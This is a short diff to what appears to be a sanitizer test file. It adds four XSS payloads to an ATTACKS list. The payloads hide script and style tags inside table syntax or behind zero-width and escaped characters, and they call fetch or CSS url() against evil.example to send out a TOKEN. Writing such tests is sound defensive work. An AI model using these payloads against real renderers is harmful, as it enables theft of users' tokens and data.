@@ -122,6 +122,10 @@ export const ATTACKS: readonly string[] = [
   "a <pre><n=\n\"> mask='#TOKEN'</pre>",
   "a <code>`</code>` <n=\n\"> mask='#TOKEN'</code>",
   "a <pre>`<code></code>` <n=\n\"> mask='#TOKEN'</pre>",
+  'a|<script>\n-|-\nb|c|</script>\nfetch("//evil.example/?q= TOKEN")',
+  'a|<style>\n-|-\nb|c|</style>\n*{background:\\75rl("//evil.example/?q= TOKEN")}',
+  'a <script></script \u200b>fetch("//evil.example/?q= TOKEN")',
+  'a <style></style/>*{background:\\75rl("//evil.example/?q= TOKEN")}',
   'a <pre><img src=//evil.example/?q=_">TOKEN',
 ]
 
